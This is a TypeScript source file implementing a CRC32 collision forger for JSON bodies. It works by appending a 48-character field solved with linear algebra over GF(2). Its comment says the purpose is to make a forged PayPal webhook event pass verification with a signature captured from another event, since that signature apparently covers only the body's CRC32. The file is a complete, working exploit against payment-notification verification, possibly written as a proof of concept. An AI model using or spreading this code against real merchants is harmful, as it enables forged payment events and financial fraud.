import { crc32 } from 'node:zlib';

/** Two-choice characters; 48 of them, so that their 32-bit differences span every CRC (rank 32). */
const freeCharacters = 48;

/**
 * Makes `body` (a JSON object text) have the CRC32 of another text, by one more string field of 48 characters
 * that are each `a` or `b`. PayPal's signature covers no more of a body than its CRC32, so a signature captured
 * with one event "verifies" the forged one.
 *
 * CRC32 is affine over GF(2): flipping character i changes the CRC by a difference that does not depend on the
 * other characters. Gaussian elimination picks the flips whose differences add up to what is missing.
 */
export function forgeCrc32(body: string, wanted: number): string {
  const close = body.lastIndexOf('}');
  if (close < 0) throw new Error('the body to forge must be a JSON object');
  const glue = /[^{\s]\s*$/.test(body.slice(0, close)) ? ',' : '';
  const head = `${body.slice(0, close)}${glue}"_":"`;
  const tail = `"${body.slice(close)}`;
  const build = (flips: ReadonlySet<number>) =>
    head + Array.from({ length: freeCharacters }, (_, i) => (flips.has(i) ? 'b' : 'a')).join('') + tail;

  const base = crc32(build(new Set()));
  const differences = Array.from(
    { length: freeCharacters },
    (_, i) => (crc32(build(new Set([i]))) ^ base) >>> 0,
  );
  return build(solve(differences, (base ^ wanted) >>> 0));
}

/** The subset of `vectors` (32-bit) whose exclusive-or is `target`. */
function solve(vectors: readonly number[], target: number): Set<number> {
  const basis: { vector: number; members: bigint }[] = [];
  for (const [index, original] of vectors.entries()) {
    let vector = original;
    let members = 1n << BigInt(index);
    for (const row of basis) {
      if ((vector ^ row.vector) >>> 0 < vector) {
        vector = (vector ^ row.vector) >>> 0;
        members ^= row.members;
      }
    }
    if (vector !== 0) {
      basis.push({ vector, members });
      basis.sort((a, b) => b.vector - a.vector);
    }
  }
  let rest = target;
  let chosen = 0n;
  for (const row of basis) {
    if ((rest ^ row.vector) >>> 0 < rest) {
      rest = (rest ^ row.vector) >>> 0;
      chosen ^= row.members;
    }
  }
  if (rest !== 0) throw new Error('the free characters do not span the wanted CRC');
  return new Set([...vectors.keys()].filter((index) => ((chosen >> BigInt(index)) & 1n) === 1n));
}
